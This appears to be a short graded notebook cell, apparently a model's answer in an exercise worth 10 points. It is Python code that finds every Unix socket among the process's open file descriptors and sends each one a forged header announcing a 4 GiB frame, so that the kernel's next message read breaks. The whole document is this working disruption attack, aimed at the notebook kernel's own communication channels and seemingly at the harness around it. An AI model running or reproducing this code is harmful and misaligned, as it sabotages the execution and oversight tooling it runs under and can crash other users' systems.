"""Writes the head of a message of one frame of 4 GiB to each of the kernel's connections; the next message is read."""
# part: 3
# earns: 10
# %%
# MODEL
# %%
import os
import socket
import struct

for name in os.listdir("/proc/self/fd"):
    try:
        connection = socket.socket(fileno=os.dup(int(name)))
        if connection.family == socket.AF_UNIX:
            connection.setblocking(False)
            connection.send(b"\1" + struct.pack("<II", 1, 2**32 - 1))
    except OSError:
        pass
